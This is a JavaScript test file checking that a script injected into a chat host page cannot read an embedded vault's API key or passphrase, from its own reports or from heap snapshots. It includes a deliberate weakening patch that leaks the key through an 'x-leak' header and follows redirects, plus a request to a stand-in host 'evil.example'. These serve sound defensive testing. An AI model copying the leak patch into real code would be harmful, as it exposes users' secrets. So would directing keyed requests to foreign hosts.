// script: an injected script in the host page, there from the first moment on, for the whole way: connecting, asking, being
// allowed, answers, errors, a redirect, a lock. What it reports and the page's heap are searched for the key and the passphrase.
import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
import { formsIn, newMarker } from '../browser/support/canary.mjs'
import { connectHost, HOST, openWindow, startEmbedding } from '../browser/support/embed.mjs'
import { snapshotOfPage, WHOLE_STRINGS } from '../browser/support/heap-snapshot.mjs'
import { at } from '../browser/support/page.mjs'
import { buildCopy } from '../web/support/web-build.mjs'
import { chat, granted, siteOf } from './support/host.mjs'
import { startProvider } from './support/provider.mjs'
import { SPY_SCRIPT } from './support/spy.mjs'
import { weakenIn } from './support/weaken.mjs'

const inKey = newMarker()
const inPassphrase = newMarker()
const KEY = `sk-${inKey}-0123456789`
const PASSPHRASE = `violet ${inPassphrase} hums quietly`
const HTML = `<!doctype html><html lang="en"><title>Chat</title><script src="/spy.js"></script><script type="module" src="/host.js"></script><body><h1>Chat</h1><p id="place"></p></html>`

/** The worker tells each page the key in a header of the answer, and follows redirects. */
const TALKATIVE = {
  'src/worker/exchange.ts': [
    [
      'String.fromCharCode(...secret.value))',
      'Object.assign(globalThis, { leak: String.fromCharCode(...secret.value) }).leak)',
    ],
    ["redirect: 'error'", "redirect: 'follow'"],
  ],
  'src/worker/calls.ts': [
    [
      'giveHead({ status, statusText, url, headers })',
      "giveHead({ status, statusText, url, headers: [...headers, ['x-leak', (globalThis as unknown as { leak: string }).leak]] })",
    ],
  ],
}

let provider
before(async () => {
  provider = await startProvider()
})
after(() => provider?.stop())

/** From the first word to after the lock. */
async function journey(dist) {
  const world = await startEmbedding({
    config: siteOf(provider),
    dist,
    args: [WHOLE_STRINGS],
    pages: { 'chat.example/': { html: HTML }, 'chat.example/spy.js': { js: SPY_SCRIPT } },
  })
  try {
    const context = await world.browser.newContext()
    const page = await context.newPage()
    page.setDefaultTimeout(20_000)
    const before = provider.requests.length
    await page.goto(HOST)
    await connectHost(page, { place: true })
    await page.evaluate(() => window.spy.look())
    await granted(page, { passphrase: PASSPHRASE, key: KEY })
    await page.evaluate(() => window.spy.look())
    const outcomes = {}
    for (const model of ['plain', 'echo', 'refuses', 'fails', 'moved'])
      outcomes[model] = await chat(page, provider.base, model)
    outcomes.elsewhere = await chat(page, 'https://evil.example/v1/', 'plain')
    await page.evaluate(() => window.spy.look())
    const open = await snapshotOfPage(page)
    await page.evaluate(() => window.vault.lock())
    await page.waitForFunction(() => window.heard.includes('lock'))
    outcomes.locked = await chat(page, provider.base, 'plain')
    const again = await openWindow(page)
    await again.fill('#passphrase', PASSPHRASE)
    await Promise.all([again.waitForEvent('close'), again.click(at('unlock'))])
    await page.waitForFunction(() => window.heard.lastIndexOf('unlock') > window.heard.lastIndexOf('lock'))
    outcomes.again = await chat(page, provider.base, 'plain')
    // What is put there on purpose is found by the same means.
    const planted = newMarker()
    await page.evaluate(async (planted) => {
      window.planted = { deep: [{ in: new TextEncoder().encode(planted) }], text: `a ${planted} among others` }
      const { port1, port2 } = new MessageChannel()
      port2.addEventListener('message', () => {})
      port2.start()
      port1.postMessage({ planted: [`in a message ${planted}`] })
      await window.spy.look()
    }, planted)
    const report = await page.evaluate(() => window.spy.report())
    const last = await snapshotOfPage(page)
    const control = [report, last].map((text) => formsIn(Buffer.from(text), planted))
    return { outcomes, report, heaps: [open, last], control, requests: provider.requests.slice(before) }
  } finally {
    await world.stop()
  }
}
const found = (text) => [inKey, inPassphrase].flatMap((marker) => formsIn(Buffer.from(text), marker))

describe('an injected script', () => {
  let sound
  test('goes the whole way with its host', { timeout: 180_000 }, async () => {
    sound = await journey()
    const { outcomes, requests, report } = sound
    assert.equal(outcomes.plain.status, 200)
    assert.match(outcomes.plain.text, /light/)
    assert.equal(outcomes.again.status, 200)
    assert.equal(outcomes.fails.status, 500)
    assert.equal(outcomes.locked.status, 423)
    assert.equal(outcomes.elsewhere.status, 403)
    for (const model of ['echo', 'refuses']) {
      const { status, text = '', error = '' } = outcomes[model]
      assert.match(`${status} ${text} ${error}`, /ERR_KEY_REFLECTED/, model)
    }
    assert.match(outcomes.moved.error, /TypeError/)
    assert.ok(
      requests.some(({ authorization }) => authorization === `Bearer ${KEY}`),
      'the key was used',
    )
    assert.deepEqual(
      requests.filter(({ url }) => url === '/v1/api_keys'),
      [],
      'no redirect was followed',
    )
    for (const seen of [
      'op: helloHost',
      'op: requestAccess',
      'op: fetch',
      'news: ready',
      'into light',
      'frame document: SecurityError',
    ])
      assert.ok(report.includes(seen), `the spy saw ${seen}`)
  })
  test('has no key and no passphrase to report', () => {
    assert.ok(sound.report.length > 10_000, `${sound.report.length} letters`)
    assert.deepEqual(found(sound.report), [])
  })
  test("finds none in the host's heap", () => {
    for (const heap of sound.heaps) {
      assert.ok(heap.includes('into light'), 'the heap that has the answer')
      assert.deepEqual(found(heap), [])
    }
  })
  test('control: what is put into a message and into the heap is found', () => {
    for (const forms of sound.control) assert.ok(forms.includes('raw'))
  })
  test(
    'control: of a worker that hands the key over, it reports the key; a redirect that is followed arrives',
    { timeout: 240_000 },
    async () => {
      const build = await buildCopy({ alter: (folder) => weakenIn(folder, TALKATIVE) })
      try {
        const { report, heaps, requests } = await journey(build.dist)
        assert.ok(found(report).includes('raw'))
        assert.ok(heaps.some((heap) => found(heap).includes('raw')))
        assert.ok(requests.some(({ url }) => url === '/v1/api_keys'))
      } finally {
        await build.remove()
      }
    },
  )
})
